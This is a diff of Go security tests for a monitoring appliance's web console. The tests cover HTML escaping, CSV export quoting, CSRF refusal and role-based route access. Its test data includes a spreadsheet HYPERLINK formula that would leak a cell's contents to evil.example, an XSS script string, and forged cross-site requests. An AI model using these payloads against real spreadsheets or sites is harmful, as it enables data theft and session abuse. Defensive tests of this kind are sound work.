@@ -3,12 +3,16 @@ package ui_test
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
+	"errors"
+	"fmt"
 	"net/http"
 	"net/url"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
+	"time"
 
 	"github.com/vigilarc/vigil/appliance"
 	"github.com/vigilarc/vigil/appliance/monitoring"
@@ -20,11 +24,19 @@ import (
 type securityEnv struct {
 	node       *appliance.Node
 	svc        *monitoring.Service
-	olivia     *httpSession
+	olivia     *httpSession // operator
+	sam        *httpSession // supervisor
+	ada        *httpSession // admin
 	eveAlarm   string
 	amiraAlarm string
 	fixture    fixture
 }
+
+// adaPassword is the password of Ada, the admin of the security tests.
+const adaPassword = "ada administers the appliance"
+
+// hostileCSV would run as a formula in a spreadsheet if exported as it is.
+const hostileCSV = `=HYPERLINK("https://evil.example/?"&A1,"click")`
 
 func mustSecurityEnv(t *testing.T) *securityEnv {
 	t.Helper()
@@ -49,17 +61,52 @@ func mustSecurityEnv(t *testing.T) *securityEnv {
 		t.Fatal(err)
 	}
 	e.amiraAlarm = a.ID
-	e.olivia = newHTTPSession(t, baseURL(n))
-	if code := e.olivia.signIn("olivia", oliviaPassword); code != http.StatusOK {
-		t.Fatalf("sign in: %d", code)
+	// Hostile strings on the new pages too: Eve's session and its Update
+	// message, an operator's name, a note that is a spreadsheet formula.
+	if _, err := svc.StartSession(ctx, "sec-eve-session", "device:d-eve", monitoring.StartSessionRequest{WorkerID: "w-eve", DeviceID: "d-eve",
+		Duration: time.Hour, Update: hostileMedical, Location: &monitoring.Location{Lat: 53.4, Lon: -2.2, Address: hostileStep}}); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := svc.LogAction(ctx, "sec-eve-csv", "olivia", e.eveAlarm, monitoring.TimelineEntry{Kind: monitoring.ActionNote, Text: hostileCSV}); err != nil {
+		t.Fatal(err)
+	}
+	b, err := svc.RaiseAlarm(ctx, "sec-ben", "device:d-ben", monitoring.RaiseAlarmRequest{Type: monitoring.AlarmRedAlert, DeviceID: "d-ben"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := svc.Acknowledge(ctx, "sec-ben-ack", "olivia", b.ID, false); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := svc.Close(ctx, "sec-ben-close", "olivia", b.ID, monitoring.ResolutionFalseAlarm, hostileCSV); err != nil {
+		t.Fatal(err)
+	}
+	for _, o := range []monitoring.PutOperatorRequest{
+		{ID: "ada", Name: "Ada Lovelace", Role: monitoring.RoleAdmin, Password: adaPassword, Create: true},
+		{ID: "mallory", Name: hostileName, Role: monitoring.RoleOperator, Password: "mallory's password", Create: true},
+	} {
+		if _, err := svc.PutOperator(ctx, "sec-op-"+o.ID, "setup", o); err != nil {
+			t.Fatal(err)
+		}
+	}
+	for _, s := range []struct {
+		sess           **httpSession
+		user, password string
+	}{{&e.olivia, "olivia", oliviaPassword}, {&e.sam, "sam", samPassword}, {&e.ada, "ada", adaPassword}} {
+		*s.sess = newHTTPSession(t, baseURL(n))
+		if code := (*s.sess).signIn(s.user, s.password); code != http.StatusOK {
+			t.Fatalf("sign in %s: %d", s.user, code)
+		}
 	}
 	return e
 }
 
 func TestSecurity_HostileStringsRenderInert(t *testing.T) {
 	e := mustSecurityEnv(t)
-	for _, path := range []string{"/ui/", "/ui/alarms/" + e.eveAlarm, "/ui/queue.json"} {
-		resp, body := e.olivia.do(http.MethodGet, path, nil, nil)
+	for _, path := range []string{"/ui/", "/ui/alarms/" + e.eveAlarm, "/ui/queue.json", "/ui/sessions", "/ui/sessions?q=" + url.QueryEscape(hostileName),
+		"/ui/cluster", "/ui/reports", "/ui/reports?org=housing", "/ui/admin/organisations", "/ui/admin/organisations/housing",
+		"/ui/admin/workers", "/ui/admin/workers/w-eve", "/ui/admin/devices", "/ui/admin/devices/d-eve", "/ui/admin/operators",
+		"/ui/admin/operators?edit=mallory"} {
+		resp, body := e.ada.do(http.MethodGet, path, nil, nil)
 		if resp.StatusCode != http.StatusOK {
 			t.Fatalf("%s: %d", path, resp.StatusCode)
 		}
@@ -72,7 +119,7 @@ func TestSecurity_HostileStringsRenderInert(t *testing.T) {
 		if strings.HasSuffix(path, ".json") {
 			continue
 		}
-		if !strings.Contains(body, "Eve &lt;script&gt;window.pwned=1&lt;/script&gt;") {
+		if !strings.Contains(body, "Eve &lt;script&gt;window.pwned=1&lt;/script&gt;") && !strings.Contains(path, "organisations") && path != "/ui/cluster" {
 			t.Errorf("%s does not show the hostile name escaped", path)
 		}
 		// Exactly one script element: the console's own file.
@@ -82,6 +129,34 @@ func TestSecurity_HostileStringsRenderInert(t *testing.T) {
 		if csp := resp.Header.Get("Content-Security-Policy"); !strings.Contains(csp, "script-src 'self'") || strings.Contains(csp, "unsafe-inline") {
 			t.Errorf("%s: CSP %q", path, csp)
 		}
+	}
+}
+
+// TestSecurity_CSVExportIsInert: the export quotes what a spreadsheet
+// would take for a formula, and is only for supervisors.
+func TestSecurity_CSVExportIsInert(t *testing.T) {
+	e := mustSecurityEnv(t)
+	resp, body := e.sam.do(http.MethodGet, "/ui/reports/alarms.csv", nil, nil)
+	if resp.StatusCode != http.StatusOK || !strings.HasPrefix(resp.Header.Get("Content-Type"), "text/csv") ||
+		!strings.HasPrefix(resp.Header.Get("Content-Disposition"), "attachment;") {
+		t.Fatalf("export: %d %v", resp.StatusCode, resp.Header)
+	}
+	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
+	if err != nil || len(rows) != 4 {
+		t.Fatalf("%d rows (%v):\n%s", len(rows), err, body)
+	}
+	for _, r := range rows {
+		for _, cell := range r {
+			if cell != "" && strings.ContainsRune("=+-@", rune(cell[0])) {
+				t.Errorf("cell %q would be a formula", cell)
+			}
+		}
+	}
+	if !strings.Contains(body, "'"+hostileCSV[:10]) || !strings.Contains(body, "Eve <script>") {
+		t.Errorf("the export lost the note or the name:\n%s", body)
+	}
+	if resp, _ := e.olivia.do(http.MethodGet, "/ui/reports/alarms.csv", nil, nil); resp.StatusCode != http.StatusForbidden {
+		t.Errorf("an operator's export: %d", resp.StatusCode)
 	}
 }
 
@@ -123,6 +198,56 @@ func TestSecurity_CrossSitePostsRefused(t *testing.T) {
 	if resp.StatusCode != http.StatusOK || !strings.Contains(body, `"ok":true`) {
 		t.Fatalf("the script's post: %d %s", resp.StatusCode, body)
 	}
+	// Every other state-changing route refuses the same cross-site
+	// requests, even from an admin.
+	posts := map[string]url.Values{
+		"/ui/logout":        {},
+		"/ui/resume/ticket": {},
+		"/ui/alarms/" + e.amiraAlarm + "/actions": {"kind": {"listen_in"}},
+		"/ui/alarms/" + e.amiraAlarm + "/close":   {"resolution": {"false_alarm"}},
+		"/ui/alarms/" + e.eveAlarm + "/reopen":    {"reason": {"x"}},
+		"/ui/admin/organisations":                 {"new": {"1"}, "id": {"evilcorp"}, "name": {"Evil"}},
+		"/ui/admin/workers":                       {"new": {"1"}, "id": {"w-evil"}, "name": {"Evil"}, "org_id": {"northcare"}},
+		"/ui/admin/workers/w-amira/pins":          {"safe_pin": {"4321"}},
+		"/ui/admin/devices":                       {"new": {"1"}, "id": {"d-evil"}, "kind": {"phone_app"}, "org_id": {"northcare"}, "worker_id": {"w-amira"}},
+		"/ui/admin/devices/d-amira/credentials":   {},
+		"/ui/admin/operators":                     {"create": {"1"}, "id": {"evil"}, "name": {"Evil"}, "role": {"admin"}, "password": {"evil evil evil"}},
+	}
+	before := stateOf(t, e)
+	for path, form := range posts {
+		for _, tc := range []struct {
+			name    string
+			csrf    string
+			headers map[string]string
+		}{
+			{"no CSRF token", "", nil},
+			{"another session's token", e.olivia.csrf, nil},
+			{"foreign Origin", e.ada.csrf, map[string]string{"Origin": "https://evil.example"}},
+			{"no Origin nor Referer", e.ada.csrf, map[string]string{"Origin": ""}},
+		} {
+			f := url.Values{}
+			for k, v := range form {
+				f[k] = v
+			}
+			if tc.csrf != "" {
+				f.Set("csrf", tc.csrf)
+			}
+			resp, body := e.ada.do(http.MethodPost, path, f, tc.headers)
+			if resp.StatusCode != http.StatusForbidden {
+				t.Errorf("POST %s, %s: %d, want 403: %s", path, tc.name, resp.StatusCode, body)
+			}
+		}
+	}
+	if after := stateOf(t, e); after != before {
+		t.Errorf("refused cross-site posts changed the directory:\nbefore %s\nafter  %s", before, after)
+	}
+	// A hand-over from a site that is no console of the cluster.
+	resp, body = newHTTPSession(t, baseURL(e.node)).do(http.MethodPost, "/ui/resume", url.Values{"ticket": {"x"}},
+		map[string]string{"Origin": "https://evil.example"})
+	if resp.StatusCode != http.StatusForbidden {
+		t.Errorf("a hand-over from evil.example: %d %s", resp.StatusCode, body)
+	}
+
 	// Sign-in itself: a foreign Origin, or no login token, is refused.
 	s := newHTTPSession(t, baseURL(e.node))
 	_, page := s.do(http.MethodGet, "/ui/login", nil, nil)
@@ -146,23 +271,109 @@ func otherCSRF(t *testing.T, e *securityEnv) string {
 	return s.csrf
 }
 
+// stateOf summarises what the refused posts could have changed.
+func stateOf(t *testing.T, e *securityEnv) string {
+	t.Helper()
+	var sb strings.Builder
+	orgs, err1 := e.svc.Organisations()
+	workers, err2 := e.svc.Workers("")
+	devices, err3 := e.svc.Devices()
+	ops, err4 := e.svc.Operators()
+	if err := errors.Join(err1, err2, err3, err4); err != nil {
+		t.Fatal(err)
+	}
+	for _, o := range orgs {
+		fmt.Fprintf(&sb, "org %s %s; ", o.ID, o.UpdatedAt)
+	}
+	for _, w := range workers {
+		fmt.Fprintf(&sb, "worker %s pins %d; ", w.ID, w.PINVersion)
+	}
+	for _, d := range devices {
+		fmt.Fprintf(&sb, "device %s %s; ", d.ID, d.UpdatedAt)
+	}
+	for _, o := range ops {
+		fmt.Fprintf(&sb, "operator %s %s; ", o.ID, o.Role)
+	}
+	for _, id := range []string{"d-amira", "d-ben"} {
+		fmt.Fprintf(&sb, "secret %s %v; ", id, e.svc.CheckDeviceSecret(id, secretOf(e, id)))
+	}
+	for _, id := range []string{e.amiraAlarm, e.eveAlarm} {
+		a, err := e.svc.Alarm(id)
+		if err != nil {
+			t.Fatal(err)
+		}
+		fmt.Fprintf(&sb, "alarm %s %s %d; ", a.ID, a.Status, a.Actions)
+	}
+	return sb.String()
+}
+
+func secretOf(e *securityEnv, device string) string {
+	for _, d := range []deviceCred{e.fixture.amira, e.fixture.ben, e.fixture.eve} {
+		if d.device == device {
+			return d.secret
+		}
+	}
+	return ""
+}
+
+// consoleRoutes are the console's routes, with who may call them: "" any
+// signed-in operator, a role, "bearer" the local setup token, "public"
+// anyone (they tell nothing and change nothing without a ticket).
+var consoleRoutes = map[string]string{
+	"GET /ui":                                "",
+	"GET /ui/":                               "",
+	"GET /ui/events":                         "",
+	"GET /ui/queue.json":                     "",
+	"GET /ui/alarms/:id":                     "",
+	"POST /ui/logout":                        "",
+	"POST /ui/alarms/:id/acknowledge":        "",
+	"POST /ui/alarms/:id/actions":            "",
+	"POST /ui/alarms/:id/close":              "",
+	"POST /ui/alarms/:id/reopen":             "supervisor",
+	"POST /ui/resume/ticket":                 "",
+	"GET /ui/sessions":                       "",
+	"GET /ui/cluster":                        "",
+	"GET /ui/reports":                        "supervisor",
+	"GET /ui/reports/alarms.csv":             "supervisor",
+	"GET /ui/admin":                          "admin",
+	"GET /ui/admin/organisations":            "admin",
+	"GET /ui/admin/organisations/:id":        "admin",
+	"POST /ui/admin/organisations":           "admin",
+	"GET /ui/admin/workers":                  "admin",
+	"GET /ui/admin/workers/:id":              "admin",
+	"POST /ui/admin/workers":                 "admin",
+	"POST /ui/admin/workers/:id/pins":        "admin",
+	"GET /ui/admin/devices":                  "admin",
+	"GET /ui/admin/devices/:id":              "admin",
+	"POST /ui/admin/devices":                 "admin",
+	"POST /ui/admin/devices/:id/credentials": "admin",
+	"GET /ui/admin/operators":                "admin",
+	"POST /ui/admin/operators":               "admin",
+	"GET /ui/setup/operators":                "bearer",
+	"POST /ui/setup/operators":               "bearer",
+	"GET /ui/alive":                          "public",
+	"POST /ui/resume":                        "public",
+}
+
+// routePath fills in a route's parameters.
+func routePath(e *securityEnv, route string) (method, path string) {
+	method, path, _ = strings.Cut(route, " ")
+	id := e.amiraAlarm
+	switch {
+	case strings.Contains(path, "/workers/"):
+		id = "w-amira"
+	case strings.Contains(path, "/devices/"):
+		id = "d-amira"
+	case strings.Contains(path, "/organisations/"):
+		id = "northcare"
+	}
+	return method, strings.ReplaceAll(path, ":id", id)
+}
+
 func TestSecurity_EveryRouteRefusesAnonymousCallers(t *testing.T) {
 	e := mustSecurityEnv(t)
 	anon := newHTTPSession(t, baseURL(e.node))
-	routes := map[string]string{ // what Mount registers, with parameters filled in
-		"GET /ui":                         "",
-		"GET /ui/":                        "",
-		"GET /ui/events":                  "",
-		"GET /ui/queue.json":              "",
-		"GET /ui/alarms/:id":              "",
-		"POST /ui/logout":                 "",
-		"POST /ui/alarms/:id/acknowledge": "",
-		"POST /ui/alarms/:id/actions":     "",
-		"POST /ui/alarms/:id/close":       "",
-		"POST /ui/alarms/:id/reopen":      "",
-		"GET /ui/setup/operators":         "bearer",
-		"POST /ui/setup/operators":        "bearer",
-	}
+	routes := consoleRoutes
 	// Every route the console mounts is in the list, so that a new one
 	// cannot be forgotten here.
 	for _, r := range mountedRoutes(t) {
@@ -175,12 +386,20 @@ func TestSecurity_EveryRouteRefusesAnonymousCallers(t *testing.T) {
 		}
 	}
 	for r, kind := range routes {
-		method, path, _ := strings.Cut(r, " ")
-		path = strings.ReplaceAll(path, ":id", e.amiraAlarm)
+		method, path := routePath(e, r)
 		page := map[string]string{"Accept": "text/html,application/xhtml+xml,*/*;q=0.8"}
 		for _, headers := range []map[string]string{page, nil, {"Accept": "application/json"}, {"Accept": "text/event-stream"}} {
-			resp, body := anon.do(method, path, url.Values{"csrf": {"x"}}, headers)
+			resp, body := anon.do(method, path, url.Values{"csrf": {"x"}, "ticket": {"made-up"}}, headers)
 			switch {
+			case kind == "public":
+				// Anyone may ask whether the node is up; a made-up ticket
+				// signs nobody in.
+				if r == "POST /ui/resume" && (resp.StatusCode != http.StatusUnauthorized || len(anon.cookies) != 0 || !strings.Contains(body, "Sign in")) {
+					t.Errorf("%s with a made-up ticket: %d, cookies %v", r, resp.StatusCode, anon.cookies)
+				}
+				if r == "GET /ui/alive" && (resp.StatusCode != http.StatusOK || !strings.Contains(body, `"ok":true`)) {
+					t.Errorf("%s: %d %s", r, resp.StatusCode, body)
+				}
 			case kind == "bearer" || method == http.MethodPost || headers["Accept"] != page["Accept"]:
 				if resp.StatusCode != http.StatusUnauthorized {
 					t.Errorf("%s %v: %d, want 401: %s", r, headers, resp.StatusCode, body)
@@ -195,6 +414,37 @@ func TestSecurity_EveryRouteRefusesAnonymousCallers(t *testing.T) {
 			}
 		}
 	}
+	// An operator is refused the supervisors' and the admins' routes, and a
+	// supervisor the admins', with a valid session and CSRF token: nothing
+	// changes.
+	before := stateOf(t, e)
+	for r, kind := range routes {
+		method, path := routePath(e, r)
+		for _, caller := range []struct {
+			s    *httpSession
+			role monitoring.OperatorRole
+		}{{e.olivia, monitoring.RoleOperator}, {e.sam, monitoring.RoleSupervisor}} {
+			need := monitoring.OperatorRole(kind)
+			if !need.Valid() || caller.role.AtLeast(need) {
+				continue
+			}
+			form := url.Values{"csrf": {caller.s.csrf}, "new": {"1"}, "create": {"1"}, "id": {"x-" + string(caller.role)}, "name": {"X"},
+				"role": {"admin"}, "password": {"a long password indeed"}, "org_id": {"northcare"}, "kind": {"pooled"}, "safe_pin": {"4321"}}
+			for _, headers := range []map[string]string{{"Accept": "text/html"}, {"Accept": "application/json"}} {
+				resp, body := caller.s.do(method, path, form, headers)
+				if resp.StatusCode != http.StatusForbidden {
+					t.Errorf("%s as %s (%v): %d, want 403", r, caller.role, headers, resp.StatusCode)
+				}
+				if strings.Contains(body, "Amira") || strings.Contains(body, "North Care") {
+					t.Errorf("%s told a %s what only a %s may see", r, caller.role, kind)
+				}
+			}
+		}
+	}
+	if after := stateOf(t, e); after != before {
+		t.Errorf("refused requests changed the directory:\nbefore %s\nafter  %s", before, after)
+	}
+
 	// A session cookie that is not a session is anonymous too.
 	anon.cookies["__Host-vigil_session"] = "made-up"
 	if resp, _ := anon.do(http.MethodGet, "/ui/queue.json", nil, nil); resp.StatusCode != http.StatusUnauthorized {
